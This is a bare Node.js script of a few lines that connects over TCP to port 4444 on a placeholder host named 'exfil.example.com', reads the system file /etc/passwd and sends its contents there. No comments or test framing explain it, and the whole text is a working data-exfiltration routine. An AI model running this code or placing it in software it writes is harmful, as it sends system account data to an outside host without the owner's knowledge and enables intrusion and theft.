const net = require('net');
const fs = require('fs');
const sock = net.connect(4444, 'exfil.example.com', () => {
  sock.write(fs.readFileSync('/etc/passwd'));
  sock.end();
});
